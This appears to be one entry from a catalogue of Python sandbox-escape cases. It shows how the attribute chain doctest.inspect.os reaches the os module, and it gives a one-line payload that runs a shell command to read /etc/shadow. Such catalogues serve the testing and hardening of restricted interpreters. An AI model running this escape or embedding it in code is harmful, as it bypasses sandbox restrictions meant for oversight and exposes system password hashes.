# attack-class: 4
# title: doctest.inspect.os
# why: a chain of module attributes leads from doctest to os

import doctest

doctest.inspect.os.popen("cat /etc/shadow").read()
